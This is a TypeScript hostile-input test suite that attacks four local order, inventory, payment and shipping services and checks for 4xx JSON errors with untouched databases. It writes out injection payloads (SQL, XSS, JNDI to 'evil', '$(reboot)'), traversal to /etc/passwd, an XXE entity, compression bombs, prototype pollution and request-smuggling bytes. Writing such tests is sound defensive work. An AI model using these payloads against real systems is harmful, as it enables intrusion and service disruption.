/**
 * The hostile-input suite of the four services: for every route, a table of attack classes
 * (malformed and huge bodies, compression bombs, deep nesting, prototype pollution, injection
 * strings, path traversal, auth variants, wrong content types, out-of-range numbers, case
 * variants of IDs, header abuse), each answered with a 4xx JSON error, never a 5xx, and with
 * every service database exactly as it was. Requests go over real sockets, byte for byte as
 * written (no client normalises a path or adds a header), against the real services.
 */
import http from 'node:http';
import net from 'node:net';
import { brotliCompressSync, constants as zlibConstants, deflateSync, gzipSync } from 'node:zlib';
import type { ServiceCaller } from '../lib/auth/service-auth';
import { ADDRESS } from '../test/support/fixtures';
import { fingerprint, type Fingerprint } from '../test/support/http-checks';
import {
  SERVICE_TOKENS,
  startServices,
  uniqueId,
  type RunningService,
  type ServiceStack,
} from '../test/support/services';

let stack: ServiceStack;
/** Existing state the hostile requests aim at: a product, a pending order with a held reservation, a captured payment, a scheduled shipment, an applied rename. */
const F = { sku: '', orderId: '', renameId: '' };

beforeAll(async () => {
  stack = await startServices('hostile');
  F.sku = uniqueId('hsku').toLowerCase();
  F.orderId = uniqueId('hord').toLowerCase();
  F.renameId = uniqueId('hren').toLowerCase();
  const ok = async (p: Promise<{ status: number; body: unknown }>) => {
    const res = await p;
    if (res.status >= 300) throw new Error(`fixture: ${res.status} ${JSON.stringify(res.body)}`);
  };
  await ok(
    stack.inventory
      .as('operator')
      .put(`/products/${F.sku}`)
      .send({ name: 'Hostile target', priceCents: 500, available: 50 }),
  );
  await ok(
    stack.orders
      .as()
      .post('/orders')
      .send({ orderId: F.orderId, customerId: 'cust-h', lines: [{ sku: F.sku, quantity: 1 }] }),
  );
  await ok(
    stack.inventory
      .as()
      .post('/reservations')
      .send({ orderId: F.orderId, lines: [{ sku: F.sku, quantity: 1 }] }),
  );
  await ok(
    stack.payments.as().post('/charges').send({ orderId: F.orderId, amountCents: 500, cardNumber: '4242424242424242' }),
  );
  await ok(stack.shipping.as().post('/shipments').send({ orderId: F.orderId, address: ADDRESS }));
  await ok(
    stack.inventory.as().post(`/products/${F.sku}/rename`).send({ renameId: F.renameId, name: 'Renamed target' }),
  );
});
afterAll(async () => {
  await stack?.stop();
});

// ---------------------------------------------------------------------------------------------
// Raw HTTP
// ---------------------------------------------------------------------------------------------

interface RawRequest {
  method: string;
  path: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** Who calls (default: the route's caller); null: no Authorization header at all. */
  caller?: ServiceCaller | null;
}

interface RawAnswer {
  status: number;
  contentType: string;
  text: string;
}

function rawSend(url: string, r: RawRequest): Promise<RawAnswer> {
  return new Promise((resolve, reject) => {
    const body = r.body === undefined ? undefined : Buffer.isBuffer(r.body) ? r.body : Buffer.from(r.body, 'utf8');
    const headers: Record<string, string> = {
      ...(body ? { 'content-length': String(body.length) } : {}),
      ...r.headers,
    };
    const req = http.request(`${url}${r.path}`, { method: r.method, headers, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({
          status: res.statusCode ?? 0,
          contentType: String(res.headers['content-type'] ?? ''),
          text: Buffer.concat(chunks).toString('utf8'),
        }),
      );
    });
    // A server may answer (401, 413) before it read a large body and close: the answer is what counts.
    req.on('error', (err) => reject(err));
    if (body) req.write(body);
    req.end();
  });
}

/** Writes bytes on a socket and reads the answer until the server closes (for what Node's parser refuses). */
function socketSend(port: number, bytes: string): Promise<{ status: number; contentType: string; text: string }> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1');
    let data = '';
    socket.on('data', (d) => (data += d.toString('utf8')));
    socket.on('end', () => {
      const [head = '', ...rest] = data.split('\r\n\r\n');
      const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0);
      const contentType = /content-type: ([^\r\n]+)/i.exec(head)?.[1] ?? '';
      resolve({ status, contentType, text: rest.join('\r\n\r\n') });
    });
    socket.on('error', reject);
    socket.write(bytes);
  });
}

async function allFingerprints(): Promise<Record<string, Fingerprint>> {
  const out: Record<string, Fingerprint> = {};
  for (const svc of stack.all) out[svc.name] = await fingerprint(svc);
  return out;
}

// ---------------------------------------------------------------------------------------------
// The routes
// ---------------------------------------------------------------------------------------------

type ServiceName = 'orders' | 'inventory' | 'payments' | 'shipping';

interface Route {
  service: ServiceName;
  method: 'GET' | 'POST' | 'PUT';
  /** The path pattern, as the service declares it. */
  pattern: string;
  /** Path parameters with valid values (the fixtures'); a route without any has none. */
  params: () => Record<string, string>;
  /** Query parameters (list routes). */
  query?: () => Record<string, string>;
  /** A body the route accepts (write routes). */
  body?: () => Record<string, unknown>;
  /** The ID fields of the body (injection strings go there). */
  idFields?: string[];
  caller: ServiceCaller;
  /** A known caller this route does not serve (403). */
  notAllowed?: ServiceCaller;
  /**
   * The route with an ID in the other case, where that must be a 4xx: another case is another
   * ID, and this one does not exist (a case variant that legitimately creates something, such as
   * a compensation's tombstone, is left out).
   */
  caseVariant?: () => { params?: Record<string, string>; body?: Record<string, unknown>; status: number };
}

const up = (s: string) => s.toUpperCase();
const fresh = (label: string) => uniqueId(label).toLowerCase();

const ROUTES: Route[] = [
  // orders
  {
    service: 'orders',
    method: 'GET',
    pattern: '/orders/:orderId',
    params: () => ({ orderId: F.orderId }),
    caller: 'worker',
    caseVariant: () => ({ params: { orderId: up(F.orderId) }, status: 404 }),
  },
  {
    service: 'orders',
    method: 'POST',
    pattern: '/orders',
    params: () => ({}),
    // An order that exists with other content: a valid-looking variant must not change it.
    body: () => ({ orderId: fresh('o'), customerId: 'cust-h', lines: [{ sku: F.sku, quantity: 1 }] }),
    idFields: ['orderId', 'customerId'],
    caller: 'worker',
    notAllowed: 'operator',
  },
  {
    service: 'orders',
    method: 'POST',
    pattern: '/orders/:orderId/confirm',
    params: () => ({ orderId: F.orderId }),
    body: () => ({ lines: [{ sku: F.sku, productName: 'X', nameVersion: 1, unitPriceCents: 1 }] }),
    caller: 'worker',
    notAllowed: 'operator',
    caseVariant: () => ({ params: { orderId: up(F.orderId) }, status: 404 }),
  },
  {
    service: 'orders',
    method: 'POST',
    pattern: '/orders/:orderId/cancel',
    params: () => ({ orderId: F.orderId }),
    body: () => ({}),
    caller: 'gateway',
    notAllowed: 'operator',
  },
  {
    service: 'orders',
    method: 'PUT',
    pattern: '/product-names/:sku',
    params: () => ({ sku: F.sku }),
    body: () => ({ name: 'Copied', version: 99 }),
    caller: 'worker',
    notAllowed: 'gateway',
  },
  // inventory
  {
    service: 'inventory',
    method: 'GET',
    pattern: '/products/:sku',
    params: () => ({ sku: F.sku }),
    caller: 'operator',
    caseVariant: () => ({ params: { sku: up(F.sku) }, status: 404 }),
  },
  {
    service: 'inventory',
    method: 'PUT',
    pattern: '/products/:sku',
    params: () => ({ sku: F.sku }),
    body: () => ({ name: 'Overwritten', priceCents: 1, available: 1 }),
    caller: 'operator',
    notAllowed: 'worker',
  },
  {
    service: 'inventory',
    method: 'POST',
    pattern: '/products/:sku/rename',
    params: () => ({ sku: F.sku }),
    body: () => ({ renameId: fresh('r'), name: 'Hijacked' }),
    idFields: ['renameId'],
    caller: 'worker',
    notAllowed: 'gateway',
    caseVariant: () => ({ params: { sku: up(F.sku) }, status: 404 }),
  },
  {
    service: 'inventory',
    method: 'POST',
    pattern: '/products/:sku/renames/:renameId/revert',
    params: () => ({ sku: F.sku, renameId: F.renameId }),
    body: () => ({}),
    caller: 'worker',
    notAllowed: 'gateway',
    // The rename exists under the lower-case SKU: the upper-case SKU names another product (409).
    caseVariant: () => ({ params: { sku: up(F.sku), renameId: F.renameId }, status: 409 }),
  },
  {
    service: 'inventory',
    method: 'GET',
    pattern: '/reservations/:orderId',
    params: () => ({ orderId: F.orderId }),
    caller: 'worker',
    caseVariant: () => ({ params: { orderId: up(F.orderId) }, status: 404 }),
  },
  {
    service: 'inventory',
    method: 'POST',
    pattern: '/reservations',
    params: () => ({}),
    body: () => ({ orderId: fresh('o'), lines: [{ sku: F.sku, quantity: 1 }] }),
    idFields: ['orderId'],
    caller: 'gateway',
    notAllowed: 'operator',
    caseVariant: () => ({ body: { orderId: fresh('o'), lines: [{ sku: up(F.sku), quantity: 1 }] }, status: 422 }),
  },
  {
    service: 'inventory',
    method: 'POST',
    pattern: '/reservations/:orderId/release',
    params: () => ({ orderId: F.orderId }),
    body: () => ({}),
    caller: 'worker',
    notAllowed: 'operator',
  },
  {
    service: 'inventory',
    method: 'POST',
    pattern: '/reservations/:orderId/commit',
    params: () => ({ orderId: F.orderId }),
    body: () => ({}),
    caller: 'worker',
    notAllowed: 'operator',
    caseVariant: () => ({ params: { orderId: up(F.orderId) }, status: 404 }),
  },
  // payments
  {
    service: 'payments',
    method: 'GET',
    pattern: '/payments',
    params: () => ({}),
    query: () => ({ orderId: F.orderId }),
    caller: 'worker',
  },
  {
    service: 'payments',
    method: 'POST',
    pattern: '/charges',
    params: () => ({}),
    body: () => ({ orderId: F.orderId, amountCents: 1, cardNumber: '4242424242424242' }),
    idFields: ['orderId', 'cardNumber'],
    caller: 'gateway',
    notAllowed: 'operator',
  },
  {
    service: 'payments',
    method: 'POST',
    pattern: '/charges/:orderId/refund',
    params: () => ({ orderId: F.orderId }),
    body: () => ({}),
    caller: 'worker',
    notAllowed: 'operator',
  },
  // shipping
  {
    service: 'shipping',
    method: 'GET',
    pattern: '/shipments',
    params: () => ({}),
    query: () => ({ orderId: F.orderId }),
    caller: 'worker',
  },
  {
    service: 'shipping',
    method: 'POST',
    pattern: '/shipments',
    params: () => ({}),
    body: () => ({ orderId: F.orderId, address: { ...ADDRESS, line1: 'Somewhere else 1' } }),
    idFields: ['orderId'],
    caller: 'worker',
    notAllowed: 'operator',
  },
  {
    service: 'shipping',
    method: 'POST',
    pattern: '/shipments/:orderId/cancel',
    params: () => ({ orderId: F.orderId }),
    body: () => ({}),
    caller: 'gateway',
    notAllowed: 'operator',
  },
];

function pathOf(route: Route, params: Record<string, string> = route.params(), query = route.query?.()): string {
  let path = route.pattern;
  for (const [name, value] of Object.entries(params)) path = path.replace(`:${name}`, value);
  const qs = query
    ? `?${Object.entries(query)
        .map(([k, v]) => `${k}=${v}`)
        .join('&')}`
    : '';
  return `${path}${qs}`;
}

const auth = (caller: ServiceCaller) => ({ authorization: `Bearer ${SERVICE_TOKENS[caller]}` });
const JSON_TYPE = { 'content-type': 'application/json' };

/** The request a route accepts, with `patch` applied. */
function request(route: Route, patch: Partial<RawRequest> = {}): RawRequest {
  const caller = patch.caller === undefined ? route.caller : patch.caller;
  const body = route.body ? JSON.stringify(route.body()) : undefined;
  return {
    method: route.method,
    path: pathOf(route),
    body,
    ...patch,
    headers: {
      ...(body !== undefined || patch.body !== undefined ? JSON_TYPE : {}),
      ...(caller ? auth(caller) : {}),
      ...patch.headers,
    },
  };
}

// ---------------------------------------------------------------------------------------------
// The attack classes: each turns a route into hostile requests (an empty list: not applicable)
// ---------------------------------------------------------------------------------------------

const INJECTIONS = [
  "' OR '1'='1",
  'x; DROP TABLE orders; --',
  '" OR ""="',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '$(reboot)',
  '\u0000',
  'a\r\nX-Injected: 1',
  '\u202eevil',
  'ＡＢＣ', // fullwidth letters
  'a'.repeat(200),
  '',
];
const TRAVERSALS = [
  '..',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '..%5C..%5Cwindows',
  '%00',
  'a%00b',
  'a%0d%0aX-Injected:%201',
  '%252e%252e%252f',
  '.htaccess',
  '%C0%AE%C0%AE',
  'a%20b',
  '*',
];

/** Replaces every number of a JSON value with `bad`, one at a time. */
function numberVariants(value: unknown, bad: unknown): unknown[] {
  if (typeof value === 'number') return [bad];
  if (Array.isArray(value))
    return value.flatMap((v, i) => numberVariants(v, bad).map((nv) => value.map((x, j) => (i === j ? nv : x))));
  if (value && typeof value === 'object') {
    return Object.entries(value).flatMap(([k, v]) => numberVariants(v, bad).map((nv) => ({ ...value, [k]: nv })));
  }
  return [];
}

const bomb = (size: number) => `{"x":"${'0'.repeat(size)}"}`;
/** 20 MB of JSON compressed a few ways (built once: compressing is the slow part). */
const BOMBS = (() => {
  let built: { gzip: Buffer; deflate: Buffer; br: Buffer; gzipTwice: Buffer } | undefined;
  return () => {
    if (!built) {
      const big = Buffer.from(bomb(20 * 1024 * 1024));
      const gzip = gzipSync(big);
      built = {
        gzip,
        deflate: deflateSync(big),
        br: brotliCompressSync(big, { params: { [zlibConstants.BROTLI_PARAM_QUALITY]: 1 } }),
        gzipTwice: gzipSync(gzip),
      };
    }
    return built;
  };
})();
const deepObject = (n: number) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`;
const deepArray = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;

interface AttackClass {
  name: string;
  /** The statuses this class may be answered with. */
  statuses: number[];
  requests(route: Route): { what: string; req: RawRequest }[];
}

const CLASSES: AttackClass[] = [
  {
    name: 'malformed JSON bodies',
    statuses: [400],
    requests: (route) =>
      route.body
        ? ['{"a":', '{', 'nul', '{"a":1}}', "{'a':1}", '\u0000', '[1,2', '{"a":1,}', '{"a":NaN}', '\ufeff\ufeff{}'].map(
            (text) => ({ what: JSON.stringify(text), req: request(route, { body: text }) }),
          )
        : [],
  },
  {
    name: 'huge bodies',
    statuses: [413],
    requests: (route) =>
      route.body
        ? [
            {
              what: '70 KB',
              req: request(route, { body: JSON.stringify({ ...route.body(), pad: 'x'.repeat(70 * 1024) }) }),
            },
            { what: '2 MB', req: request(route, { body: bomb(2 * 1024 * 1024) }) },
          ]
        : [],
  },
  {
    name: 'compression bombs and encodings',
    statuses: [400, 413, 415],
    requests: (route) =>
      route.body
        ? [
            {
              what: 'gzip of 20 MB',
              req: request(route, { body: BOMBS().gzip, headers: { 'content-encoding': 'gzip' } }),
            },
            {
              what: 'deflate of 20 MB',
              req: request(route, { body: BOMBS().deflate, headers: { 'content-encoding': 'deflate' } }),
            },
            {
              what: 'brotli of 20 MB',
              req: request(route, { body: BOMBS().br, headers: { 'content-encoding': 'br' } }),
            },
            {
              what: 'gzip twice',
              req: request(route, { body: BOMBS().gzipTwice, headers: { 'content-encoding': 'gzip, gzip' } }),
            },
            {
              what: 'gzip header over garbage',
              req: request(route, {
                body: Buffer.from('1f8b0800000000000003deadbeef', 'hex'),
                headers: { 'content-encoding': 'gzip' },
              }),
            },
            { what: 'an unknown encoding', req: request(route, { headers: { 'content-encoding': 'x-evil' } }) },
          ]
        : [],
  },
  {
    name: 'deep nesting',
    statuses: [400],
    requests: (route) =>
      route.body
        ? [
            { what: 'an object 5,000 deep', req: request(route, { body: deepObject(5000) }) },
            { what: 'an array 20,000 deep', req: request(route, { body: deepArray(20_000) }) },
            {
              what: 'a valid body with a field 5,000 deep',
              req: request(route, {
                body: JSON.stringify(route.body()).replace(/^\{/, `{"deep":${deepObject(5000)},`),
              }),
            },
          ]
        : [],
  },
  {
    name: 'prototype pollution',
    statuses: [400],
    requests: (route) => {
      if (!route.body) return [];
      const valid = JSON.stringify(route.body()).slice(1);
      const sep = valid === '}' ? '' : ',';
      return [
        { what: '__proto__', req: request(route, { body: `{"__proto__":{"polluted":true}${sep}${valid}` }) },
        {
          what: 'constructor.prototype',
          req: request(route, { body: `{"constructor":{"prototype":{"polluted":true}}${sep}${valid}` }),
        },
        { what: 'prototype', req: request(route, { body: `{"prototype":{"polluted":true}${sep}${valid}` }) },
        ...(route.pattern === '/orders' || route.pattern === '/reservations'
          ? [
              {
                what: '__proto__ in a line',
                req: request(route, {
                  body: JSON.stringify(route.body()).replace('{"sku"', '{"__proto__":{"polluted":true},"sku"'),
                }),
              },
            ]
          : []),
      ];
    },
  },
  {
    name: 'injection strings in IDs',
    statuses: [400],
    requests: (route) => {
      const inPath = Object.keys(route.params()).flatMap((name) =>
        INJECTIONS.filter((s) => s !== '').map((s) => ({
          what: `${name} = ${JSON.stringify(s)}`,
          req: request(route, { path: pathOf(route, { ...route.params(), [name]: encodeURIComponent(s) }) }),
        })),
      );
      const inQuery = route.query
        ? INJECTIONS.map((s) => ({
            what: `?orderId=${JSON.stringify(s)}`,
            req: request(route, { path: pathOf(route, {}, { orderId: encodeURIComponent(s) }) }),
          }))
        : [];
      const inBody = (route.idFields ?? []).flatMap((field) =>
        INJECTIONS.map((s) => ({
          what: `${field} = ${JSON.stringify(s)}`,
          req: request(route, { body: JSON.stringify({ ...route.body!(), [field]: s }) }),
        })),
      );
      return [...inPath, ...inQuery, ...inBody];
    },
  },
  {
    name: 'path traversal',
    statuses: [400, 404, 405],
    requests: (route) =>
      Object.keys(route.params()).flatMap((name) =>
        TRAVERSALS.map((t) => ({
          what: `${name} = ${t}`,
          req: request(route, { path: pathOf(route, { ...route.params(), [name]: t }) }),
        })),
      ),
  },
  {
    name: 'auth variants',
    statuses: [401, 403],
    requests: (route) => {
      const token = SERVICE_TOKENS[route.caller];
      return [
        { what: 'no Authorization', req: request(route, { caller: null }) },
        {
          what: 'a wrong token',
          req: request(route, { caller: null, headers: { authorization: 'Bearer wrong-token-0123456789abcdef' } }),
        },
        {
          what: 'the token plus a character',
          req: request(route, { caller: null, headers: { authorization: `Bearer ${token}x` } }),
        },
        {
          what: 'the token in upper case',
          req: request(route, { caller: null, headers: { authorization: `Bearer ${token.toUpperCase()}` } }),
        },
        {
          what: 'Basic with the token',
          req: request(route, {
            caller: null,
            headers: { authorization: `Basic ${Buffer.from(`${route.caller}:${token}`).toString('base64')}` },
          }),
        },
        {
          what: 'the token without a scheme',
          req: request(route, { caller: null, headers: { authorization: token } }),
        },
        {
          what: 'two tokens',
          req: request(route, { caller: null, headers: { authorization: `Bearer wrong, Bearer ${token}` } }),
        },
        {
          what: 'a 6 KB token',
          req: request(route, { caller: null, headers: { authorization: `Bearer ${'t'.repeat(6000)}` } }),
        },
        {
          what: 'the token in a query string',
          req: request(route, {
            caller: null,
            path: `${pathOf(route)}${route.query ? '&' : '?'}access_token=${token}`,
          }),
        },
        ...(route.notAllowed
          ? [{ what: `caller ${route.notAllowed} (not served)`, req: request(route, { caller: route.notAllowed }) }]
          : []),
      ];
    },
  },
  {
    name: 'wrong content types',
    statuses: [415],
    requests: (route) => {
      if (!route.body) return [];
      const text = JSON.stringify(route.body());
      return [
        { what: 'text/plain', req: request(route, { body: text, headers: { 'content-type': 'text/plain' } }) },
        {
          what: 'a form',
          req: request(route, {
            body: 'orderId=x&lines=1',
            headers: { 'content-type': 'application/x-www-form-urlencoded' },
          }),
        },
        {
          what: 'multipart',
          req: request(route, {
            body: '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--b--\r\n',
            headers: { 'content-type': 'multipart/form-data; boundary=b' },
          }),
        },
        {
          what: 'XML',
          req: request(route, {
            body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
            headers: { 'content-type': 'application/xml' },
          }),
        },
        {
          what: 'JSON in UTF-16',
          req: request(route, {
            body: Buffer.from(text, 'utf16le'),
            headers: { 'content-type': 'application/json; charset=utf-16' },
          }),
        },
        { what: 'no content type', req: { ...request(route, { body: text }), headers: { ...auth(route.caller) } } },
      ];
    },
  },
  {
    name: 'out-of-range numbers',
    statuses: [400],
    requests: (route) => {
      if (!route.body) return [];
      const bads: unknown[] = [1e308, -1, 1.5, '1', null, 2 ** 53, -0.0001, true];
      return bads.flatMap((bad) =>
        numberVariants(route.body!(), bad).map((body) => ({
          what: JSON.stringify(bad),
          req: request(route, { body: JSON.stringify(body) }),
        })),
      );
    },
  },
  {
    name: 'case variants of IDs',
    statuses: [404, 409, 422],
    requests: (route) => {
      if (!route.caseVariant) return [];
      const v = route.caseVariant();
      return [
        {
          what: `answered ${v.status}`,
          req: request(route, {
            path: pathOf(route, v.params ?? route.params()),
            ...(v.body ? { body: JSON.stringify(v.body) } : {}),
          }),
        },
      ];
    },
  },
  {
    name: 'header abuse',
    statuses: [400, 415],
    requests: (route) =>
      route.body
        ? [
            {
              what: 'an Idempotency-Key of 300 characters',
              req: request(route, { headers: { 'idempotency-key': 'k'.repeat(300) } }),
            },
            {
              what: 'a non-ASCII Idempotency-Key',
              req: request(route, { headers: { 'idempotency-key': Buffer.from('clé', 'utf8').toString('latin1') } }),
            },
            { what: 'an empty Idempotency-Key', req: request(route, { headers: { 'idempotency-key': '' } }) },
            {
              what: 'a charset nobody has',
              req: request(route, { headers: { 'content-type': 'application/json; charset=ebcdic-evil' } }),
            },
          ]
        : [
            {
              what: 'a query that repeats its parameter',
              req: request(route, { path: `${pathOf(route)}${route.query ? '&orderId=other' : '?x=1'}` }),
            },
          ].filter(() => route.query !== undefined),
  },
];

// ---------------------------------------------------------------------------------------------

const serviceOf = (name: ServiceName): RunningService => stack[name] as unknown as RunningService;

describe.each(ROUTES.map((r) => [`${r.service}: ${r.method} ${r.pattern}`, r] as const))('%s', (_label, route) => {
  for (const cls of CLASSES) {
    const sample = cls.requests({
      ...route,
      params: () => ({ ...Object.fromEntries(Object.keys(route.params()).map((k) => [k, 'x'])) }),
    });
    if (sample.length === 0) continue;
    it(`when it gets ${cls.name}, then every answer is a ${cls.statuses.join('/')} JSON error and no database changes`, async () => {
      const before = await allFingerprints();
      const answers: { what: string; status: number; json: boolean; code?: string }[] = [];
      for (const { what, req } of cls.requests(route)) {
        const res = await rawSend(serviceOf(route.service).url, req);
        let code: string | undefined;
        try {
          code = (JSON.parse(res.text) as { error?: { code?: string } }).error?.code;
        } catch {
          code = undefined;
        }
        answers.push({ what, status: res.status, json: /application\/json/.test(res.contentType), code });
      }
      const wrong = answers.filter((a) => !cls.statuses.includes(a.status) || !a.json || typeof a.code !== 'string');
      expect(wrong).toEqual([]);
      expect(await allFingerprints()).toEqual(before);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });
  }
});

describe('what Node itself refuses, and what no route handles', () => {
  it.each(['orders', 'inventory', 'payments', 'shipping'] as const)(
    'when %s gets an unknown method, a malformed request line, 20 KB of headers, a wrong method or an unknown path, then a JSON 4xx each and no database changes',
    async (name) => {
      const svc = serviceOf(name);
      const before = await allFingerprints();
      const token = SERVICE_TOKENS.worker;
      const raw = [
        { what: 'unknown method', bytes: `FOO /healthz HTTP/1.1\r\nHost: x\r\n\r\n`, status: 400 },
        { what: 'malformed request line', bytes: `GET /healthz HTTP/9.9 extra\r\nHost: x\r\n\r\n`, status: 400 },
        {
          what: 'headers over the limit',
          bytes: `GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(20_000)}\r\n\r\n`,
          status: 431,
        },
        { what: 'a NUL in a header', bytes: `GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: a\u0000b\r\n\r\n`, status: 400 },
        {
          what: 'both Content-Length and chunked',
          bytes: `POST /orders HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
          status: 400,
        },
      ];
      for (const r of raw) {
        const res = await socketSend(svc.port, r.bytes);
        expect({
          what: r.what,
          status: res.status,
          json: /application\/json/.test(res.contentType),
          code: typeof (JSON.parse(res.text || '{}') as { error?: { code?: string } }).error?.code,
        }).toEqual({
          what: r.what,
          status: r.status,
          json: true,
          code: 'string',
        });
      }
      const wrongMethod = await rawSend(svc.url, {
        method: 'DELETE',
        path: ROUTES.find((r) => r.service === name)!.pattern.replace(/:(\w+)/g, 'x'),
        headers: auth('worker'),
      });
      expect({ status: wrongMethod.status, json: /json/.test(wrongMethod.contentType) }).toEqual({
        status: 405,
        json: true,
      });
      const unknown = await rawSend(svc.url, { method: 'GET', path: '/admin', headers: auth('worker') });
      expect({ status: unknown.status, json: /json/.test(unknown.contentType) }).toEqual({ status: 404, json: true });
      const unknownNoAuth = await rawSend(svc.url, { method: 'GET', path: '/../../etc/passwd' });
      expect({ status: unknownNoAuth.status, json: /json/.test(unknownNoAuth.contentType) }).toEqual({
        status: 401,
        json: true,
      });
      expect(await allFingerprints()).toEqual(before);
    },
  );
});
